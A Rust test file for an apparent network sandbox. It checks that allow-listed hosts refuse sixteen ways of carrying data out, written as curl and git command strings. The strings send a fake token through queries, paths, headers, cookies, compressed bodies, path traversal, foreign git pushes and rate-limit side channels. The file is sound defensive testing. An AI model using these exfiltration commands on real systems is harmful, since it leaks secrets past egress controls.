//! Data that is carried out by hosts that a rule allows (N24): in paths, fields and bodies, by a push, a
//! publication, and by which of many addresses are asked for.

use std::fmt::Write as _;

use stockade_testkit::{
    env::User,
    escape::Scene,
    http::{Request, Response},
    lab::TlsServer,
};

use crate::attacks::matrix::{Attempt, Matrix, closed};

/// A token of a known format that nobody has, in two parts so that no scanner of sources finds it.
const TOKEN: (&str, &str) = ("ghp_", "k3Xv9QmZ2rT7bNw4Yc8LpD1sHf6GjA5uEoKq");

/// The hosts, and what their rules say. `PORT` stands for the port of the server.
const RULES: &str = r#"
[[allow]]
id = "commands"
what = "exec"
command = [["git", "push", "**"], ["git", "send-pack", "**"]]
[[allow]]
id = "forum"
what = "net"
hosts = ["forum.test"]
methods = ["GET", "POST"]
content = "deny"
[[allow]]
id = "pages"
what = "net"
hosts = ["pages.test"]
methods = ["GET"]
paths = ["/docs/**"]
[[allow]]
id = "own"
what = "git"
hosts = ["git.test"]
repositories = ["team/**"]
[[allow]]
id = "packages"
what = "package"
hosts = ["registry.test"]
ecosystems = ["npm"]
operations = ["download"]
[[allow]]
id = "issues"
what = "forge"
hosts = ["api.test"]
operations = ["read"]
[[allow]]
id = "slow"
what = "net"
hosts = ["images.test", "counters.test"]
methods = ["GET"]
requests_per_minute_max = 6
[[allow]]
id = "small"
what = "net"
hosts = ["small.test"]
tls = "inspect"
bytes_max = "4kB"
"#;

/// Requests that the rule `slow` lets out in a session.
const SLOW: usize = 6;

/// The path at which each attempt arrives if it works, by its name, and what it does; `fetch` is curl with
/// the certificate of the server.
const ATTEMPTS: [(&str, &str, Refused); 16] = [
    (
        "query",
        "fetch https://forum.test:$PORT/query?q=$TOKEN",
        Refused("content", "/query"),
    ),
    (
        "path",
        "fetch https://forum.test:$PORT/path/$TOKEN/x",
        Refused("content", "/path/"),
    ),
    (
        "field",
        "fetch -H \"X-Trace: $(printf %s \"$TOKEN\" | base64)\" https://forum.test:$PORT/field",
        Refused("content", "/field"),
    ),
    (
        "cookie",
        "fetch -H \"Cookie: a=$TOKEN\" https://forum.test:$PORT/cookie",
        Refused("content", "/cookie"),
    ),
    (
        "paste",
        "fetch -d \"text=$TOKEN\" https://forum.test:$PORT/paste",
        Refused("content", "/paste"),
    ),
    (
        "packed",
        "printf 'page %s' $TOKEN | gzip | fetch --data-binary @- https://forum.test:$PORT/packed",
        Refused("content", "/packed"),
    ),
    (
        "method",
        "fetch -d x https://pages.test:$PORT/docs/method",
        Refused("", "/docs/method"),
    ),
    (
        "other-path",
        "fetch https://pages.test:$PORT/other-path?a=b",
        Refused("", "/other-path"),
    ),
    (
        "climbing",
        "fetch --path-as-is https://pages.test:$PORT/docs/../climbing",
        Refused("", "climbing"),
    ),
    (
        "push",
        "git push -q https://git.test:$PORT/other/push.git HEAD:refs/heads/topic",
        Refused("", "git.test"),
    ),
    (
        "publish",
        "fetch -X PUT -d '{\"name\":\"publish\"}' https://registry.test:$PORT/publish",
        Refused("", "/publish"),
    ),
    (
        "gist",
        "fetch -d '{\"files\":{}}' https://api.test:$PORT/gists",
        Refused("", "/gists"),
    ),
    (
        "graphql",
        "fetch -d '{\"query\":\"mutation { addStar(input: {}) { id } }\"}' https://api.test:$PORT/graphql",
        Refused("", "/graphql"),
    ),
    (
        "images",
        "for c in s e c r e t i s; do fetch https://images.test:$PORT/images/$c || exit 1; done",
        Refused("requests-per-minute-max", "images.test"),
    ),
    (
        "counters",
        "for r in $(seq 64); do fetch https://counters.test:$PORT/counters/repo-$r || exit 1; done",
        Refused("requests-per-minute-max", "counters.test"),
    ),
    (
        "upload",
        "head -c 5000 /dev/zero | fetch -H Expect: --data-binary @- https://small.test:$PORT/upload",
        Refused("bytes-max", "/upload"),
    ),
];

/// The rule of the one refusal, none if no rule allows the request, and a part of its target.
struct Refused(&'static str, &'static str);

const HOSTS: [&str; 8] = [
    "forum.test",
    "pages.test",
    "git.test",
    "registry.test",
    "api.test",
    "images.test",
    "counters.test",
    "small.test",
];

/// Answers as a forge to git, which has no branch and takes every push, and `lab` to everything else.
fn answer(request: &Request) -> Response {
    let line = |text: &str| format!("{:04x}{text}", text.len() + 4);
    let (kind, body) = if request
        .target
        .ends_with("info/refs?service=git-receive-pack")
    {
        let refs = format!("{} capabilities^{{}}\0report-status\n", "0".repeat(40));
        let said = [
            &line("# service=git-receive-pack\n"),
            "0000",
            &line(&refs),
            "0000",
        ]
        .concat();
        ("application/x-git-receive-pack-advertisement", said)
    } else if request.path().ends_with("/git-receive-pack") {
        let said = [&line("unpack ok\n"), &line("ok refs/heads/topic\n"), "0000"].concat();
        ("application/x-git-receive-pack-result", said)
    } else {
        ("text/plain", "lab\n".to_owned())
    };
    Response {
        status: 200,
        headers: vec![("Content-Type".to_owned(), kind.to_owned())],
        body: body.into_bytes(),
    }
}

/// Each way to carry data out by a host that is allowed ends at the rule that looks at it, with one event:
/// no such request arrives, and what is counted stops at its number.
#[test]
fn n24_allowed_hosts_carry_no_data_out() {
    let server = TlsServer::with(&HOSTS, answer);
    let fetch = |more: &str| format!("fetch() {{ curl -fsS -m 10 -o /dev/null {more} \"$@\"; }}; ");
    let mut around = String::new();
    for host in HOSTS {
        write!(around, "--resolve {host}:$PORT:127.0.0.1 ").expect("text grows");
    }
    let git = "git -c http.sslVerify=false -c http.curloptResolve=git.test:$PORT:127.0.0.1 push";
    let lines = ATTEMPTS.map(|(_, line, _)| {
        let inside = format!("{}{line}", fetch(""));
        let bare = format!("{}{line}", fetch(&format!("-k {around}"))).replace("git push", git);
        (inside, bare)
    });
    let attempts: Vec<Attempt<'_>> = ATTEMPTS
        .iter()
        .zip(&lines)
        .map(|((name, _, Refused(rule, target)), (inside, bare))| {
            closed(name, inside)
                .twin(bare)
                .event("http.decided", rule, target)
        })
        .collect();
    let options = |scene: &Scene| {
        let authority = scene.env.write("authority.pem", server.certificate_pem());
        let mut text = format!(
            "schema = 1\n[network]\nupstream_ca = [\"{}\"]\n[network.hosts]\n",
            authority.display()
        );
        for host in HOSTS {
            writeln!(text, "\"{host}\" = \"127.0.0.1\"").expect("text grows");
        }
        let place = format!("ports = [{}]\nprivate = true\nhosts", server.port());
        text.push_str(&RULES.replace("hosts", &place));
        let path = scene.env.write("policy.toml", &text);
        vec!["--policy".into(), path.display().to_string()]
    };
    Matrix {
        tools: &["curl", "git", "gzip", "base64"],
        options: &options,
        variables: &|_| {
            vec![
                ("PORT".into(), server.port().to_string()),
                ("TOKEN".into(), [TOKEN.0, TOKEN.1].concat()),
            ]
        },
        ..Matrix::new("N24", &attempts)
    }
    .check();
    let requests = server.requests();
    let arrived = |name: &str| {
        let part = format!("/{name}");
        requests
            .iter()
            .filter(|one| one.target.contains(&part))
            .count()
    };
    let users = User::all().len();
    for (name, ..) in ATTEMPTS {
        let (control, counted) = match name {
            // What git asks first, and the push.
            "push" => (2, 0),
            "images" => (8, 3 * SLOW),
            "counters" => (64, 0),
            _ => (1, 0),
        };
        assert_eq!(arrived(name), users * (control + counted), "{name}");
    }
}
